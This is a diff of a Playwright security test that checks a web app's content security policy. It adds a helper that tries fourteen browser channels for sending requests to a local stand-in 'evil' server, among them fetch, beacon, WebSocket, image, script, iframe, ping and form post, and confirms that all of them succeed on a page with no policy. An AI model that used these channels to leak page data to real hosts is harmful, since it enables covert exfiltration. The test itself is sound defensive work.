@@ -1,6 +1,7 @@
 import { readFileSync } from 'node:fs';
 import { expect, test as plain } from '@playwright/test';
 import { Proofsheet, test } from '../fixtures.ts';
+import { startHttpServer } from '../server/http-server.ts';
 import { startScriptedApi } from '../server/scripted-api.ts';
 
 // The content policy of the page and the lock that boot.js adds to it (TRUST B.2 and B.3, R6).
@@ -122,58 +123,15 @@ test('while a picture is on its way nothing is loaded again by itself', async ({
     .click();
   await expect(app.pictures).toHaveCount(1);
   expect(other.calls()).toHaveLength(1);
-  expect(await page.evaluate(() => Reflect.get({}, 'polluted'))).toBeUndefined();
   await other.close();
 });
 
 plain('a planted script reaches nobody by any of fourteen ways', async ({ page }) => {
   const evil = await startScriptedApi();
-  const app = new Proofsheet(page);
-  await app.open();
-  const refused = await page.evaluate(async (evil) => {
-    const refused: string[] = [];
-    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => refused.push(effectiveDirective));
-    const append = (tag: string, attributes: Record<string, string>) => {
-      const element = document.createElement(tag);
-      for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
-      document.body.append(element);
-      return element;
-    };
-    const attempts: (() => unknown)[] = [
-      () => fetch(`${evil}/fetch`),
-      () => navigator.sendBeacon(`${evil}/beacon`, 'x'),
-      () => new WebSocket(`${evil.replace('http', 'ws')}/socket`),
-      () => new EventSource(`${evil}/events`),
-      () => append('img', { src: `${evil}/image` }),
-      () => append('script', { src: `${evil}/script` }),
-      () => append('link', { rel: 'stylesheet', href: `${evil}/style` }),
-      () => append('link', { rel: 'prefetch', href: `${evil}/prefetch` }),
-      () => append('link', { rel: 'icon', href: `${evil}/icon` }),
-      () => append('iframe', { src: `${evil}/frame` }),
-      () => append('audio', { src: `${evil}/audio` }),
-      () => append('a', { href: '#', ping: `${evil}/ping` }).click(),
-      () => {
-        const form = document.createElement('form');
-        Object.assign(form, { action: `${evil}/form`, method: 'post', target: '_blank' });
-        document.body.append(form);
-        form.submit();
-      },
-      () => append('script', { type: 'speculationrules' }).append('{"prefetch":[{"urls":["/x"]}]}'),
-    ];
-    for (const attempt of attempts) {
-      try {
-        await attempt();
-      } catch {
-        // Stopped on the spot.
-      }
-    }
-    // Whatever got through would be under way by the time this page has answered.
-    await fetch('/icon.svg');
-    await new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve)));
-    return refused;
-  }, evil.url);
+  await new Proofsheet(page).open();
+  const refused = await page.evaluate(tryAllWays, evil.url);
   expect(evil.requests).toEqual([]);
-  const ways = [
+  const directives = [
     'connect-src',
     'img-src',
     'require-trusted-types-for',
@@ -182,9 +140,64 @@ plain('a planted script reaches nobody by any of fourteen ways', async ({ page }
     'media-src',
     'form-action',
   ];
-  expect(refused).toEqual(expect.arrayContaining(ways));
+  expect(refused).toEqual(expect.arrayContaining(directives));
+
+  // The ways are ways: where no policy is, they lead there. Icons and what rules foretell are fetched by no browser that
+  // is led by a test.
+  const bare = await startHttpServer(async () => new Response('<body>', { headers: { 'content-type': 'text/html' } }));
+  await page.goto(bare.url);
+  await page.evaluate(tryAllWays, evil.url);
+  const gets = ['fetch', 'socket', 'events', 'image', 'script', 'style', 'prefetch', 'frame', 'audio'];
+  await expect
+    .poll(() => evil.requests.map(({ path }) => path.slice(1)))
+    .toEqual(expect.arrayContaining([...gets, 'beacon', 'ping', 'form']));
+  await bare.close();
   await evil.close();
 });
+
+/** Runs in the page: every way out for a script but navigation. Resolves with the directives that refused something. */
+async function tryAllWays(evil: string): Promise<string[]> {
+  const refused: string[] = [];
+  document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => refused.push(effectiveDirective));
+  const append = (tag: string, attributes: Record<string, string>) => {
+    const element = document.createElement(tag);
+    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
+    document.body.append(element);
+    return element;
+  };
+  const attempts: (() => unknown)[] = [
+    () => fetch(`${evil}/fetch`),
+    () => navigator.sendBeacon(`${evil}/beacon`, 'x'),
+    () => new WebSocket(`${evil.replace('http', 'ws')}/socket`),
+    () => new EventSource(`${evil}/events`),
+    () => append('img', { src: `${evil}/image` }),
+    () => append('script', { src: `${evil}/script` }),
+    () => append('link', { rel: 'stylesheet', href: `${evil}/style` }),
+    () => append('link', { rel: 'prefetch', href: `${evil}/prefetch` }),
+    () => append('link', { rel: 'icon', href: `${evil}/icon` }),
+    () => append('iframe', { src: `${evil}/frame` }),
+    () => append('audio', { src: `${evil}/audio` }),
+    () => append('a', { href: '#', ping: `${evil}/ping` }).click(),
+    () => {
+      const form = document.createElement('form');
+      Object.assign(form, { action: `${evil}/form`, method: 'post', target: '_blank' });
+      document.body.append(form);
+      form.submit();
+    },
+    () => append('script', { type: 'speculationrules' }).append(`{"prefetch":[{"urls":["${evil}/rules"]}]}`),
+  ];
+  for (const attempt of attempts) {
+    try {
+      await attempt();
+    } catch {
+      // Stopped on the spot.
+    }
+  }
+  // Whatever got through would be under way by the time this page has answered.
+  await fetch('/icon.svg');
+  await new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve)));
+  return refused;
+}
 
 plain('text is never run: no eval, no handlers, no markup, no foreign worker', async ({ page }) => {
   await new Proofsheet(page).open();
